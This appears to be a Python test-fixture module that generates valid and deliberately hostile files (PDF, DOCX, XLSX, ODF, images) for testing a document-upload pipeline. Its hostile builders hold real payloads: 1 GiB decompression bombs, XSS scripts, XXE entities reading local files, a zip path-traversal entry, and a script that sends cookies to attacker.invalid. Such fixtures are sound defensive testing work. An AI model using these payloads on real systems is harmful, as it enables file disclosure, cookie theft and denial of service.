"""Build real test files (good and hostile) in a directory chosen by the test.

Every helper takes the destination path first and returns it as a :class:`~pathlib.Path`. Nothing here reads
files from the repository or the network; the only outside input is a system TrueType font with Arabic glyphs
for :func:`make_arabic_pdf` (the test is skipped when none is installed).

The two ~1 GiB bombs take a few seconds to compress, so each is built once per process in a private temporary
directory (removed at exit) and copied to the requested path.
"""

from __future__ import annotations

import atexit
import functools
import shutil
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path

import pytest

ARABIC_FONT_CANDIDATES = (
    "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf",
    "/usr/share/fonts/dejavu/DejaVuSans.ttf",
    "/usr/share/fonts/TTF/DejaVuSans.ttf",
    "/usr/local/share/fonts/DejaVuSans.ttf",
    "/Library/Fonts/DejaVuSans.ttf",
)

BOMB_UNCOMPRESSED_BYTES = 1 << 30  # 1 GiB
_CHUNK = 1 << 22  # 4 MiB


def _p(path: str | Path) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _write(path: str | Path, data: bytes) -> Path:
    """``data`` written to ``path`` (its folder made first)."""
    path = _p(path)
    path.write_bytes(data)
    return path


# --------------------------------------------------------------------------------------------------------------
# Good files
# --------------------------------------------------------------------------------------------------------------


def make_pdf(path: str | Path, paragraphs: Sequence[str]) -> Path:
    """A text PDF made with fpdf2's core Helvetica font (Latin-1 text only)."""
    from fpdf import FPDF

    path = _p(path)
    pdf = FPDF()
    pdf.set_auto_page_break(auto=True, margin=15)
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    for paragraph in paragraphs:
        pdf.multi_cell(0, 7, paragraph, new_x="LMARGIN", new_y="NEXT")
        pdf.ln(3)
    pdf.output(str(path))
    return path


def find_arabic_font() -> Path | None:
    for candidate in ARABIC_FONT_CANDIDATES:
        if Path(candidate).is_file():
            return Path(candidate)
    return None


def make_arabic_pdf(path: str | Path, paragraphs: Sequence[str]) -> Path:
    """A right-to-left PDF shaped with HarfBuzz (fpdf2 ``set_text_shaping``) in DejaVu Sans."""
    from fpdf import FPDF

    font = find_arabic_font()
    if font is None:
        pytest.skip("no TrueType font with Arabic glyphs (DejaVuSans.ttf) is installed")
    path = _p(path)
    pdf = FPDF()
    pdf.add_page()
    pdf.add_font("DejaVu", fname=str(font))
    pdf.set_font("DejaVu", size=14)
    pdf.set_text_shaping(True)
    for paragraph in paragraphs:
        pdf.multi_cell(0, 9, paragraph, align="R", new_x="LMARGIN", new_y="NEXT")
        pdf.ln(3)
    pdf.output(str(path))
    return path


def make_docx(path: str | Path, paragraphs: Sequence[str], table: Sequence[Sequence[str]] | None = None) -> Path:
    import docx

    path = _p(path)
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if table:
        ncols = max(len(row) for row in table)
        grid = document.add_table(rows=len(table), cols=ncols)
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    document.save(str(path))
    return path


def make_xlsx(path: str | Path, rows: Sequence[Sequence[object]], sheet_title: str = "Data") -> Path:
    from openpyxl import Workbook

    path = _p(path)
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title
    for row in rows:
        sheet.append(list(row))
    workbook.save(str(path))
    return path


def make_pptx(path: str | Path, slides: Sequence[Sequence[str]]) -> Path:
    """One slide per item; the first string is the title, the rest are body paragraphs."""
    from pptx import Presentation

    path = _p(path)
    presentation = Presentation()
    layout = presentation.slide_layouts[1]  # "Title and Content"
    for slide_text in slides:
        slide = presentation.slides.add_slide(layout)
        title, *body = list(slide_text) or [""]
        slide.shapes.title.text = title
        frame = slide.placeholders[1].text_frame
        for i, line in enumerate(body):
            paragraph = frame.paragraphs[0] if i == 0 else frame.add_paragraph()
            paragraph.text = line
    presentation.save(str(path))
    return path


def make_odt(path: str | Path, paragraphs: Sequence[str]) -> Path:
    from odf.opendocument import OpenDocumentText
    from odf.text import H
    from odf.text import P

    path = _p(path)
    document = OpenDocumentText()
    for i, paragraph in enumerate(paragraphs):
        element = H(outlinelevel=1, text=paragraph) if i == 0 else P(text=paragraph)
        document.text.addElement(element)
    document.save(str(path))
    return path


def make_ods(path: str | Path, rows: Sequence[Sequence[str]], sheet_title: str = "Sheet1") -> Path:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table
    from odf.table import TableCell
    from odf.table import TableRow
    from odf.text import P

    path = _p(path)
    document = OpenDocumentSpreadsheet()
    table = Table(name=sheet_title)
    for row in rows:
        table_row = TableRow()
        for value in row:
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=str(value)))
            table_row.addElement(cell)
        table.addElement(table_row)
    document.spreadsheet.addElement(table)
    document.save(str(path))
    return path


def make_odp(path: str | Path, slides: Sequence[Sequence[str]]) -> Path:
    from odf.draw import Frame
    from odf.draw import Page
    from odf.draw import TextBox
    from odf.opendocument import OpenDocumentPresentation
    from odf.style import MasterPage
    from odf.style import PageLayout
    from odf.text import P

    path = _p(path)
    document = OpenDocumentPresentation()
    layout = PageLayout(name="PL")
    document.automaticstyles.addElement(layout)
    master = MasterPage(name="Default", pagelayoutname=layout)
    document.masterstyles.addElement(master)
    for i, slide_text in enumerate(slides):
        page = Page(name=f"slide{i + 1}", masterpagename=master)
        frame = Frame(width="20cm", height="10cm", x="1cm", y="1cm")
        box = TextBox()
        for line in slide_text:
            box.addElement(P(text=line))
        frame.addElement(box)
        page.addElement(frame)
        document.presentation.addElement(page)
    document.save(str(path))
    return path


def make_txt(path: str | Path, text: str, encoding: str = "utf-8") -> Path:
    """``encoding`` may be e.g. ``utf-8-sig`` or ``utf-16`` (Python writes the BOM for both)."""
    return _write(path, text.encode(encoding))


def make_csv(path: str | Path, rows: Sequence[Sequence[object]], encoding: str = "utf-8") -> Path:
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path = _p(path)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


# --------------------------------------------------------------------------------------------------------------
# Hostile or broken files
# --------------------------------------------------------------------------------------------------------------


def make_empty(path: str | Path) -> Path:
    return _write(path, b"")


def make_truncated_pdf(path: str | Path) -> Path:
    """A real PDF cut off inside its first page content stream: no xref, no trailer, no page tree."""
    path = _p(path)
    whole = make_pdf(path, ["This document was cut off in transit. " * 40]).read_bytes()
    cut = whole.index(b"stream") + len(b"stream") + 20
    path.write_bytes(whole[:cut])
    return path


def make_encrypted_pdf(path: str | Path, paragraphs: Sequence[str] = ("Secret minutes",)) -> Path:
    """A PDF that needs a user password to open (RC4, fpdf2's default)."""
    from fpdf import FPDF

    path = _p(path)
    pdf = FPDF()
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")  # noqa: S106
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    for paragraph in paragraphs:
        pdf.multi_cell(0, 7, paragraph, new_x="LMARGIN", new_y="NEXT")
    pdf.output(str(path))
    return path


def make_malformed_pdf(path: str | Path) -> Path:
    path = _p(path)
    junk = bytes((i * 7919 + 13) % 251 for i in range(4096))
    path.write_bytes(b"%PDF-1.4\n" + junk + b"\n(not really a pdf)\n")
    return path


def _assemble_pdf(objects: Sequence[bytes]) -> bytes:
    """Serialise numbered objects (1-based, object 1 is the catalog) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _pdf_with_flate_content(compressed: bytes) -> bytes:
    return _assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(compressed) + compressed + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _build_pdf_stream_bomb(path: Path) -> Path:
    compressor = zlib.compressobj(1)  # level 1: ~2 s for 1 GiB (level 9: ~6 s)
    parts = [compressor.compress(b"BT /F1 12 Tf 72 720 Td (bomb) Tj ET\n")]
    spaces = b" " * _CHUNK
    for _ in range(BOMB_UNCOMPRESSED_BYTES // _CHUNK):
        parts.append(compressor.compress(spaces))
    parts.append(compressor.compress(b"\nBT /F1 12 Tf 72 700 Td (tail) Tj ET\n"))
    parts.append(compressor.flush())
    path.write_bytes(_pdf_with_flate_content(b"".join(parts)))
    return path


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
_W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _build_docx_bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<w:document xmlns:w="' + _W + b'"><w:body><w:p><w:r><w:t xml:space="preserve">bomb'
            )
            spaces = b" " * _CHUNK
            for _ in range(BOMB_UNCOMPRESSED_BYTES // _CHUNK):
                member.write(spaces)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


_cache_dir: Path | None = None


def _bomb_cache_dir() -> Path:
    global _cache_dir
    if _cache_dir is None:
        _cache_dir = Path(tempfile.mkdtemp(prefix="filefactory-"))
        atexit.register(shutil.rmtree, _cache_dir, True)
    return _cache_dir


@functools.cache
def _cached_bomb(kind: str) -> Path:
    builders = {"pdf": (_build_pdf_stream_bomb, "bomb.pdf"), "docx": (_build_docx_bomb, "bomb.docx")}
    build, name = builders[kind]
    return build(_bomb_cache_dir() / name)


def make_pdf_stream_bomb(path: str | Path) -> Path:
    """A ~5 MB PDF whose single FlateDecode content stream inflates to ~1 GiB of spaces."""
    path = _p(path)
    shutil.copyfile(_cached_bomb("pdf"), path)
    return path


def make_docx_bomb(path: str | Path) -> Path:
    """A ~5 MB DOCX (valid parts, right MIME type for libmagic) whose word/document.xml inflates to ~1 GiB."""
    path = _p(path)
    shutil.copyfile(_cached_bomb("docx"), path)
    return path


def make_zip(path: str | Path, members: dict[str, bytes] | None = None) -> Path:
    """A plain zip archive (not an Office document)."""
    path = _p(path)
    members = members or {"notes.txt": b"just a zip\n", "data/readme.md": b"# readme\n"}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def make_html_as_pdf(path: str | Path) -> Path:
    """An HTML page saved under a .pdf name."""
    return _write(
        path,
        b"<!DOCTYPE html>\n<html><head><title>Report</title></head>"
        b"<body><h1>Report</h1><script>alert(document.cookie)</script></body></html>\n"
    )


def make_polyglot_html_pdf(path: str | Path) -> Path:
    """HTML first, a PDF header on the next line: libmagic 5.44 calls this application/pdf."""
    return _write(path, b"<html><body><script>alert(1)</script></body></html>\n%PDF-1.4\n")


def make_svg(path: str | Path) -> Path:
    return _write(
        path,
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script type="text/javascript">alert(1)</script><rect width="10" height="10"/></svg>\n'
    )


def make_xml(path: str | Path) -> Path:
    return _write(
        path,
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<r>&x;</r>\n'
    )


def make_js(path: str | Path) -> Path:
    return _write(
        path,
        b"#!/usr/bin/env node\n"
        b'"use strict";\n'
        b"const secret = document.cookie;\n"
        b'fetch("https://attacker.invalid/?c=" + encodeURIComponent(secret));\n'
    )


def make_exe(path: str | Path) -> Path:
    """A minimal Windows PE image: DOS header ("MZ", e_lfanew at 0x3C) then "PE\\0\\0" and a COFF header."""
    path = _p(path)
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 1, 0, 0, 0, 0xF0, 0x0022)
    optional = bytearray(0xF0)
    struct.pack_into("<H", optional, 0, 0x20B)  # PE32+ magic
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    body = bytes(dos) + coff + bytes(optional) + section
    path.write_bytes(body + b"\0" * (0x400 - len(body)))
    return path


def make_png(path: str | Path, width: int = 4, height: int = 4) -> Path:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\0" + b"\xff\x00\x00" * width for _ in range(height))
    path = _p(path)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )
    return path


def make_gif(path: str | Path) -> Path:
    """A 1x1 GIF (an image type that is not accepted: only PNG, JPEG and TIFF scans are)."""
    return _write(path, b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
                        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def make_many_tj_pdf(path: str | Path, operators: int = 200_000) -> Path:
    """One page with a very large number of ``Tj`` operators (slow for pure-Python parsers)."""
    body = b"BT /F1 1 Tf 10 10 Td\n" + b"(x) Tj\n" * operators + b"ET\n"
    path = _p(path)
    path.write_bytes(_pdf_with_flate_content(zlib.compress(body, 9)))
    return path


def make_image_only_pdf(path: str | Path) -> Path:
    """A PDF with vector drawing but no text at all (what a scan looks like to a text extractor)."""
    from fpdf import FPDF

    path = _p(path)
    pdf = FPDF()
    pdf.add_page()
    pdf.set_fill_color(40, 40, 40)
    for i in range(10):
        pdf.rect(20 + i * 15, 30 + i * 10, 12, 8, style="F")
    pdf.output(str(path))
    return path


_XXE_TARGETS = {
    "docx": ("word/document.xml", make_docx),
    "xlsx": ("xl/worksheets/sheet1.xml", make_xlsx),
    "pptx": ("ppt/slides/slide1.xml", make_pptx),
    "odt": ("content.xml", make_odt),
}
XXE_MARKER = "XXEMARKER"


def make_xxe_document(path: str | Path, kind: str, secret_file: str | Path) -> Path:
    """A DOCX/XLSX/PPTX/ODT whose main XML part declares an external entity pointing at ``secret_file``.

    The visible text is ``before &xxe; after``: a parser that resolves external entities leaks the secret file.
    """
    member, build = _XXE_TARGETS[kind]
    path = _p(path)
    tmp = path.with_name(path.name + ".plain")
    if kind in ("xlsx", "pptx"):
        build(tmp, [[f"before {XXE_MARKER} after"]])
    else:
        build(tmp, [f"before {XXE_MARKER} after"])
    uri = Path(secret_file).resolve().as_uri()
    found = False
    with zipfile.ZipFile(tmp) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == member:
                xml = data.decode("utf-8")
                root_start = xml.index("<", xml.index("?>") + 2) if xml.startswith("<?xml") else 0
                root_name = xml[root_start + 1 :].split(None, 1)[0].rstrip(">")
                doctype = f'<!DOCTYPE {root_name} [<!ENTITY xxe SYSTEM "{uri}">]>'
                xml = xml[:root_start] + doctype + xml[root_start:]
                assert XXE_MARKER in xml
                data = xml.replace(XXE_MARKER, "&xxe;").encode("utf-8")
                found = True
            target.writestr(info, data)
    tmp.unlink()
    if not found:
        raise AssertionError(f"{member} not found in the {kind} built by {build.__name__}")
    return path


def make_zip_traversal_docx(path: str | Path) -> Path:
    """A valid DOCX with an extra member named ``../../evil.txt``."""
    path = _p(path)
    tmp = make_docx(path.with_name(path.name + ".plain"), ["harmless"])
    with zipfile.ZipFile(tmp) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("../../evil.txt", b"escaped")
    tmp.unlink()
    return path


def make_macro_docx(path: str | Path) -> Path:
    """A DOCX that carries a VBA project (what a .docm looks like inside)."""
    path = _p(path)
    tmp = make_docx(path.with_name(path.name + ".plain"), ["macro inside"])
    with zipfile.ZipFile(tmp) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    tmp.unlink()
    return path


def render_pages(pdf_path: Path, dpi: int = 200) -> list:
    """The pages of a PDF as greyscale PIL images (what a scanner or a phone camera hands over)."""
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument(str(pdf_path))
    try:
        images = []
        for index in range(len(document)):
            page = document[index]
            bitmap = page.render(scale=dpi / 72, grayscale=True)
            images.append(bitmap.to_pil().convert("L"))
            bitmap.close()
            page.close()
        return images
    finally:
        document.close()


def make_text_pdf_pages(path: str | Path, pages: Sequence[tuple[str, Sequence[str]]]) -> Path:
    """A PDF with a text layer, one page per ``(direction, lines)``; ``"rtl"`` pages are shaped Arabic."""
    from fpdf import FPDF

    font = find_arabic_font()
    if font is None:
        pytest.skip("no TrueType font with Arabic glyphs (DejaVuSans.ttf) is installed")
    path = _p(path)
    pdf = FPDF()
    pdf.add_font("DejaVu", fname=str(font))
    pdf.set_text_shaping(True)
    for direction, lines in pages:
        pdf.add_page()
        pdf.set_font("DejaVu", size=16)
        for line in lines:
            pdf.multi_cell(0, 11, line, align="R" if direction == "rtl" else "L", new_x="LMARGIN", new_y="NEXT")
            pdf.ln(3)
    pdf.output(str(path))
    return path


def make_scanned_pdf(path: str | Path, pages: Sequence[tuple[str, Sequence[str]]], dpi: int = 200) -> Path:
    """A PDF of page images only, no text layer: ``pages`` typeset, rendered and put back as pictures."""
    path = _p(path)
    source = make_text_pdf_pages(path.with_suffix(".source.pdf"), pages)
    images = render_pages(source, dpi)
    source.unlink()
    images[0].save(path, "PDF", resolution=dpi, save_all=True, append_images=images[1:])
    return path


def make_photo(path: str | Path, lines: Sequence[str], fmt: str = "JPEG", dpi: int = 200) -> Path:
    """A photograph-like image (JPEG, PNG or TIFF) of a page with ``lines`` of English text."""
    path = _p(path)
    source = make_text_pdf_pages(path.with_suffix(".source.pdf"), [("ltr", lines)])
    image = render_pages(source, dpi)[0]
    source.unlink()
    options = {"JPEG": {"quality": 85}, "TIFF": {"compression": "tiff_lzw"}}.get(fmt, {})
    image.save(path, fmt, **options)
    return path
